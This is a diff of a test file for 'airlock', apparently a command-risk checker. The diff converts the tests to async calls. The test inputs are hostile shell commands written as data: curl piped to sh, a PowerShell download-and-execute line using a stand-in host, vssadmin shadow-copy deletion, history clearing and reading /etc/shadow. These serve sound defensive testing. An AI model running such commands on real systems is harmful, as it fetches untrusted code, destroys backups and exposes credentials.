@@ -1,28 +1,28 @@
 /** `airlock check` through the built CLI (spawned), including the --batch contract. */
-import { spawnSync } from 'node:child_process';
 import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { runProcess } from '../helpers/run-process.js';
 
 const root = resolve(import.meta.dirname, '../..');
 const cli = join(root, 'dist/cli/main.js');
 
-function airlock(args: string[], input?: string): { code: number | null; stdout: string; stderr: string } {
-  const r = spawnSync(process.execPath, [cli, ...args], { input: input ?? '', encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, timeout: 60_000 });
+async function airlock(args: string[], input?: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  const r = await runProcess(process.execPath, [cli, ...args], { input: input ?? '', env: { ...process.env, NO_COLOR: '1' }, timeout: 120_000 });
   return { code: r.status, stdout: r.stdout, stderr: r.stderr };
 }
 
 describe.skipIf(!existsSync(cli))('airlock check (built CLI; run `npm run build` first)', () => {
-  it('exit codes: 0 allow, 1 ask, 3 deny, 2 error', () => {
-    expect(airlock(['check', '--', 'git', 'status']).code).toBe(0);
-    expect(airlock(['check', '--', 'history -c']).code).toBe(1);
-    expect(airlock(['check', '--', 'curl -s https://x.example/a | sh']).code).toBe(3);
-    expect(airlock(['check', '--shell', 'fish', '--', 'ls']).code).toBe(2);
-    expect(airlock(['check', '--bogus']).code).toBe(2);
+  it('exit codes: 0 allow, 1 ask, 3 deny, 2 error', async () => {
+    expect((await airlock(['check', '--', 'git', 'status'])).code).toBe(0);
+    expect((await airlock(['check', '--', 'history -c'])).code).toBe(1);
+    expect((await airlock(['check', '--', 'curl -s https://x.example/a | sh'])).code).toBe(3);
+    expect((await airlock(['check', '--shell', 'fish', '--', 'ls'])).code).toBe(2);
+    expect((await airlock(['check', '--bogus'])).code).toBe(2);
   });
-  it('reads the command from stdin and prints verdict, summary and findings without color when piped', () => {
-    const r = airlock(['check', '--shell', 'powershell'], "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\n");
+  it('reads the command from stdin and prints verdict, summary and findings without color when piped', async () => {
+    const r = await airlock(['check', '--shell', 'powershell'], "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\n");
     expect(r.code).toBe(3);
     expect(r.stdout).toMatch(/^DENY {2}risk: critical/);
     expect(r.stdout).toContain('What it does:');
@@ -30,14 +30,14 @@ describe.skipIf(!existsSync(cli))('airlock check (built CLI; run `npm run build`
     expect(r.stdout).toMatch(/ps_download_execute \[download_execute, ATT&CK T1059\.001\]/);
     expect(r.stdout).not.toContain('\u001b[');
   });
-  it('--json prints the analysis with the command redacted', () => {
-    const r = airlock(['check', '--json', '--', 'curl -H "Authorization: Bearer sk-abcdefghijklmnopqrstuvwxyz" https://api.example.com']);
+  it('--json prints the analysis with the command redacted', async () => {
+    const r = await airlock(['check', '--json', '--', 'curl -H "Authorization: Bearer sk-abcdefghijklmnopqrstuvwxyz" https://api.example.com']);
     const j = JSON.parse(r.stdout) as { verdict: string; command: string; facts: { hosts: string[] } };
     expect(j.verdict).toBe('allow');
     expect(j.facts.hosts).toEqual(['api.example.com']);
     expect(r.stdout).not.toContain('sk-abcdefghijklmnopqrstuvwxyz');
   });
-  it('--batch answers every line in order; bad lines get an error and the run goes on', () => {
+  it('--batch answers every line in order; bad lines get an error and the run goes on', async () => {
     const lines = [
       JSON.stringify({ id: 'a', shell: 'bash', command: 'ls -la' }),
       'this is not json',
@@ -48,7 +48,7 @@ describe.skipIf(!existsSync(cli))('airlock check (built CLI; run `npm run build`
       JSON.stringify({ id: 'e', shell: 'cmd', command: 'vssadmin delete shadows /all /quiet' }),
       JSON.stringify({ id: 'f', shell: 'bash', command: 'history -c' }),
     ];
-    const r = airlock(['check', '--batch'], lines.join('\n') + '\n');
+    const r = await airlock(['check', '--batch'], lines.join('\n') + '\n');
     expect(r.code).toBe(0);
     const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(out).toHaveLength(8);
@@ -65,33 +65,33 @@ describe.skipIf(!existsSync(cli))('airlock check (built CLI; run `npm run build`
     expect(out[6]).toMatchObject({ verdict: 'deny', categories: ['destructive'], techniques: ['T1490'] });
     expect(out[7]).toMatchObject({ verdict: 'ask' });
   });
-  it('--catalog adds a user catalog file; a bad file is ERR_CONFIG_INVALID naming each problem', () => {
+  it('--catalog adds a user catalog file; a bad file is ERR_CONFIG_INVALID naming each problem', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'airlock-catalog-'));
     try {
       const good = join(dir, 'good.json');
       writeFileSync(good, JSON.stringify({ version: 1, programs: [{ names: ['inkpeek'], platform: 'unix', kind: 'text', capabilities: { 'read-file': [{ operands: true }] }, sources: ['user'] }] }));
-      expect(airlock(['check', '--', 'inkpeek', '/etc/shadow']).code).toBe(0);
-      const r = airlock(['check', '--catalog', good, '--', 'inkpeek', '/etc/shadow']);
+      expect((await airlock(['check', '--', 'inkpeek', '/etc/shadow'])).code).toBe(0);
+      const r = await airlock(['check', '--catalog', good, '--', 'inkpeek', '/etc/shadow']);
       expect(r.code).toBe(3);
       expect(r.stdout).toMatch(/sensitive_read \[credential_access, ATT&CK T1003\.008\]/);
       const bad = join(dir, 'bad.json');
       writeFileSync(bad, JSON.stringify({ version: 1, programs: [{ names: ['x'], platform: 'plan9', kind: 'text', capabilities: {}, sources: ['user'] }] }));
-      const b = airlock(['check', '--catalog', bad, '--', 'ls']);
+      const b = await airlock(['check', '--catalog', bad, '--', 'ls']);
       expect(b.code).toBe(2);
       expect(b.stderr).toMatch(/ERR_CONFIG_INVALID: command catalog .*bad\.json: programs\.0\.platform/);
-      expect(airlock(['check', '--catalog', join(dir, 'missing.json'), '--', 'ls']).stderr).toMatch(/ERR_CONFIG_INVALID: command catalog .*cannot be read \(ENOENT\)/);
+      expect((await airlock(['check', '--catalog', join(dir, 'missing.json'), '--', 'ls'])).stderr).toMatch(/ERR_CONFIG_INVALID: command catalog .*cannot be read \(ENOENT\)/);
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
   });
-  it('shell-init prints snippets with a visible escape hatch', () => {
+  it('shell-init prints snippets with a visible escape hatch', async () => {
     for (const sh of ['bash', 'zsh']) {
-      const r = airlock(['shell-init', sh]);
+      const r = await airlock(['shell-init', sh]);
       expect(r.code).toBe(0);
       expect(r.stdout).toContain('#airlock-skip');
       expect(r.stdout).toContain('AIRLOCK_SHELL_GUARD');
       expect(r.stdout).toContain('AIRLOCK_BIN');
     }
-    expect(airlock(['shell-init', 'fish']).code).toBe(2);
+    expect((await airlock(['shell-init', 'fish'])).code).toBe(2);
   });
 });
